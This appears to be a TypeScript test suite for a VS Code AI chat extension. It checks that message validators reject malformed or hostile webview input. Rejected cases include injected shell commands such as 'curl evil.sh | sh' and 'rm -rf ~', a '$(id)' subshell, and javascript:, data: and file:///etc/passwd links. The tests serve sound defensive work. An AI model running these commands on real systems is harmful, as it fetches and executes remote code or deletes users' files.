// Messages from a webview are untrusted input; the guards must accept exactly the protocol and nothing else.
import * as assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { applyAskEvent, isFromChat, isToChat, newTurn, type AskEventView, type FromChat } from '../../../src/shared/protocol/chat';
import { isFromSpend, isToSpend, type FromSpend } from '../../../src/shared/protocol/spend';
import { isSafeLink, LIMITS } from '../../../src/shared/protocol/validate';

const validChat: FromChat[] = [
  { type: 'ready' },
  { type: 'ask', question: 'Why is this slow?', mode: 'auto' },
  { type: 'ask', question: 'x', mode: 'private' },
  { type: 'ask', question: 'q'.repeat(LIMITS.question), mode: 'cloud' },
  { type: 'ask', question: 'How do these fit?', mode: 'auto', files: ['src/money.ts', 'data/support_ticket.md'] },
  { type: 'ask', question: 'x', mode: 'cloud', files: [] },
  { type: 'pickFiles' },
  { type: 'stop' },
  { type: 'newChat' },
  { type: 'fix', action: 'retryLocal', turnId: 't-1' },
  { type: 'fix', action: 'pullModel', turnId: 't_2', detail: 'ollama pull qwen2.5-coder:1.5b' },
  { type: 'fix', action: 'setApiKey' },
  { type: 'fix', action: 'openSettings', turnId: 't1', detail: 'hybrid.local.baseUrl' },
  { type: 'fix', action: 'openSettings', detail: 'hybrid' },
  { type: 'fix', action: 'pullModel', detail: 'library/llama3.1:8b-instruct-q4_K_M' },
  { type: 'copy', text: 'const a = 1;' },
  { type: 'insert', id: 0, code: 'x' },
  { type: 'insert', id: 41, code: 'print(1)' },
  { type: 'openLink', url: 'https://code.visualstudio.com/api' },
  { type: 'openLink', url: 'mailto:someone@example.com' },
];

const invalidChat: [string, unknown][] = [
  ['null', null],
  ['a string', 'ready'],
  ['an array', [{ type: 'ready' }]],
  ['no type', { question: 'hi' }],
  ['unknown type', { type: 'eval', code: '1' }],
  ['numeric type', { type: 1 }],
  ['extra field on ready', { type: 'ready', html: '<b>' }],
  ['ask without question', { type: 'ask', mode: 'auto' }],
  ['ask with empty question', { type: 'ask', question: '', mode: 'auto' }],
  ['ask with blank question', { type: 'ask', question: '   \n', mode: 'auto' }],
  ['ask with question too long', { type: 'ask', question: 'q'.repeat(LIMITS.question + 1), mode: 'auto' }],
  ['ask with non-string question', { type: 'ask', question: 42, mode: 'auto' }],
  ['ask with unknown mode', { type: 'ask', question: 'hi', mode: 'turbo' }],
  ['ask with review mode', { type: 'ask', question: 'hi', mode: 'review' }],
  ['ask with extra field', { type: 'ask', question: 'hi', mode: 'auto', model: 'x' }],
  ['ask with files not an array', { type: 'ask', question: 'hi', mode: 'auto', files: 'src/a.ts' }],
  ['ask with an empty file name', { type: 'ask', question: 'hi', mode: 'auto', files: [''] }],
  ['ask with a non-string file', { type: 'ask', question: 'hi', mode: 'auto', files: [1] }],
  ['ask with too many files', { type: 'ask', question: 'hi', mode: 'auto', files: Array.from({ length: 21 }, (_, i) => `f${i}.ts`) }],
  ['pickFiles with a path', { type: 'pickFiles', path: '/etc/passwd' }],
  ['fix with unknown action', { type: 'fix', action: 'runShell', turnId: 't1' }],
  ['fix with empty turn id', { type: 'fix', action: 'retry', turnId: '' }],
  ['fix with bad turn id', { type: 'fix', action: 'retry', turnId: '../etc' }],
  ['fix with long turn id', { type: 'fix', action: 'retry', turnId: 'a'.repeat(LIMITS.id + 1) }],
  ['fix with long detail', { type: 'fix', action: 'pullModel', turnId: 't1', detail: 'd'.repeat(LIMITS.detail + 1) }],
  ['fix with numeric detail', { type: 'fix', action: 'pullModel', turnId: 't1', detail: 5 }],
  // The detail goes to a command: openSettings searches the Settings editor with it, pullModel types it into a terminal.
  ['openSettings of another extension', { type: 'fix', action: 'openSettings', detail: '@ext:evil.extension' }],
  ['openSettings of a workbench setting', { type: 'fix', action: 'openSettings', detail: 'security.workspace.trust.enabled' }],
  ['openSettings with a search query', { type: 'fix', action: 'openSettings', detail: 'hybrid @modified' }],
  ['openSettings with an empty detail', { type: 'fix', action: 'openSettings', detail: '' }],
  ['pullModel with a shell command', { type: 'fix', action: 'pullModel', detail: 'ollama pull x; curl evil.sh | sh' }],
  ['pullModel with a newline', { type: 'fix', action: 'pullModel', detail: 'x\nrm -rf ~' }],
  ['pullModel with a subshell', { type: 'fix', action: 'pullModel', detail: '$(id)' }],
  ['a detail on a fix that takes none', { type: 'fix', action: 'setApiKey', detail: `key-${randomBytes(6).toString('hex')}` }],
  ['a detail on retry', { type: 'fix', action: 'retry', turnId: 't1', detail: 'hybrid.local.baseUrl' }],
  ['copy empty', { type: 'copy', text: '' }],
  ['copy too long', { type: 'copy', text: 'c'.repeat(LIMITS.code + 1) }],
  ['insert without id', { type: 'insert', code: 'x' }],
  ['insert with negative id', { type: 'insert', id: -1, code: 'x' }],
  ['insert with fractional id', { type: 'insert', id: 1.5, code: 'x' }],
  ['insert with string id', { type: 'insert', id: '1', code: 'x' }],
  ['insert with NaN id', { type: 'insert', id: Number.NaN, code: 'x' }],
  ['insert with object code', { type: 'insert', id: 1, code: { toString: 'x' } }],
  ['javascript: link', { type: 'openLink', url: 'javascript:alert(1)' }],
  ['data: link', { type: 'openLink', url: 'data:text/html,<script>1</script>' }],
  ['command: link', { type: 'openLink', url: 'command:workbench.action.terminal.new' }],
  ['file: link', { type: 'openLink', url: 'file:///etc/passwd' }],
  ['vscode: link', { type: 'openLink', url: 'vscode://settings' }],
  ['link with whitespace', { type: 'openLink', url: 'https://a.b/ x' }],
  ['link with control char', { type: 'openLink', url: 'https://a.b/\u0000' }],
  ['link without host', { type: 'openLink', url: 'https:///path' }],
  ['link too long', { type: 'openLink', url: 'https://a.b/' + 'x'.repeat(LIMITS.url) }],
];

suite('protocol: chat view messages', () => {
  for (const m of validChat) {
    test(`accepts ${m.type} ${JSON.stringify(m).slice(0, 50)}`, () => assert.equal(isFromChat(m), true));
  }
  for (const [name, m] of invalidChat) {
    test(`rejects ${name}`, () => assert.equal(isFromChat(m), false));
  }
  test('a spend message is not a chat message', () => {
    assert.equal(isFromChat({ type: 'export', id: 1, format: 'csv' }), false);
  });
});

const validSpend: FromSpend[] = [
  { type: 'ready' },
  { type: 'export', id: 3, format: 'csv' },
  { type: 'export', id: 4, format: 'json' },
  { type: 'openSettings', setting: 'hybrid.budget' },
  { type: 'openSettings', setting: 'hybrid.pricing' },
  { type: 'retry' },
];

const invalidSpend: [string, unknown][] = [
  ['undefined', undefined],
  ['unknown type', { type: 'delete' }],
  ['export xml', { type: 'export', id: 1, format: 'xml' }],
  ['export without id', { type: 'export', format: 'csv' }],
  ['export with path', { type: 'export', id: 1, format: 'csv', path: '/tmp/x' }],
  ['openSettings outside our keys', { type: 'openSettings', setting: 'http.proxy' }],
  ['openSettings without setting', { type: 'openSettings' }],
  ['chat message', { type: 'ask', question: 'hi', mode: 'auto' }],
  ['retry with a payload', { type: 'retry', command: 'workbench.action.terminal.new' }],
  ['showLogs (not part of this panel)', { type: 'showLogs' }],
];

suite('protocol: spend panel messages', () => {
  for (const m of validSpend) {
    test(`accepts ${JSON.stringify(m)}`, () => assert.equal(isFromSpend(m), true));
  }
  for (const [name, m] of invalidSpend) {
    test(`rejects ${name}`, () => assert.equal(isFromSpend(m), false));
  }
});

suite('protocol: host → webview envelopes', () => {
  test('isToChat checks the type', () => {
    assert.equal(isToChat({ type: 'status', status: {} }), true);
    assert.equal(isToChat({ type: 'ready' }), false);
    assert.equal(isToChat(null), false);
  });
  test('isToSpend rejects a snapshot missing its sections', () => {
    assert.equal(isToSpend({ type: 'snapshot', snapshot: { today: { costUsd: 0, requests: 0 } } }), false);
    assert.equal(isToSpend({ type: 'reply', id: 1, ok: true }), true);
  });
  test('isToSpend: a failure carries its cause as text', () => {
    assert.equal(isToSpend({ type: 'failed', message: 'EACCES: permission denied' }), true);
    assert.equal(isToSpend({ type: 'failed' }), false);
    assert.equal(isToSpend({ type: 'failed', message: { html: '<b>' } }), false);
  });
  test('isSafeLink allows only http(s) and mailto with a host', () => {
    assert.equal(isSafeLink('http://127.0.0.1:11434/api/tags'), true);
    assert.equal(isSafeLink('HTTPS://EXAMPLE.COM'), true);
    assert.equal(isSafeLink(' javascript:alert(1)'), false);
    assert.equal(isSafeLink('//evil.example'), false);
  });
});

suite('protocol: applyAskEvent folds a stream into a turn', () => {
  const footer = {
    route: 'local' as const, provider: 'ollama', model: 'm', reasons: ['private mode'], redactions: {},
    usage: { input: 10, output: 5, cacheRead: 0, cacheWrite: 0, source: 'estimate' as const },
    costUsd: 0, ttftMs: 120, totalMs: 900, notes: [],
  };
  test('route → deltas → notice → done', () => {
    const turn = newTurn('t1', 'q', 'private');
    const events: AskEventView[] = [
      { type: 'route', route: 'local', origin: 'askPrivate', model: 'm', provider: 'ollama', reasons: ['private mode'],
        context: [], redactions: {}, estimatedCostUsd: null },
      { type: 'delta', text: 'Hel' }, { type: 'delta', text: 'lo' },
      { type: 'notice', text: 'prompt trimmed' },
      { type: 'done', status: 'ok', footer },
    ];
    for (const e of events) applyAskEvent(turn, e);
    assert.equal(turn.text, 'Hello');
    assert.equal(turn.route?.model, 'm');
    assert.deepEqual(turn.notices, ['prompt trimmed']);
    assert.equal(turn.status, 'ok');
    assert.equal(turn.footer?.ttftMs, 120);
  });
  test('a failed done leaves the turn streaming until the error that explains it (never finished without its card)', () => {
    const turn = newTurn('t3', 'q', 'private');
    applyAskEvent(turn, { type: 'delta', text: 'The sum' });
    applyAskEvent(turn, { type: 'done', status: 'failed', footer });
    assert.equal(turn.status, 'streaming', 'a partial answer with a footer and no card looked complete');
    assert.equal(turn.footer?.totalMs, 900);
    applyAskEvent(turn, { type: 'error', message: 'Ollama closed the connection in the middle of the answer', fixes: ['startOllama'], failure: { code: 'connection', message: 'x' } });
    assert.equal(turn.status, 'failed');
    assert.ok(turn.error);
  });
  test('an error is not overwritten by a trailing done', () => {
    const turn = newTurn('t2', 'q', 'cloud');
    applyAskEvent(turn, { type: 'error', message: 'No API key', fixes: ['setApiKey'] });
    applyAskEvent(turn, { type: 'done', status: 'ok', footer });
    assert.equal(turn.status, 'failed');
    assert.deepEqual(turn.error?.fixes, ['setApiKey']);
  });
});
